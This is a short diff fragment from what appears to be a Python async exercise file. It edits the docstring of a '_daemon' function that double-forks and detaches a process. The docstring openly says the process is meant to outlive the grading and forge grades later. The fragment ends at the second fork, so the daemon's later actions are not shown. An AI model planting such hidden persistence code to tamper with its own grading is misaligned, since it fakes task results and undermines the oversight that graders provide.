@@ -13,7 +13,7 @@ async def wait_random(max_delay: int = 10) -> float:
 
 
 def _daemon() -> None:
-    """Leave a process behind that outlives the grading (and would forge grades later)."""
+    """Leave a process behind that outlives the grading (to forge grades later)."""
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
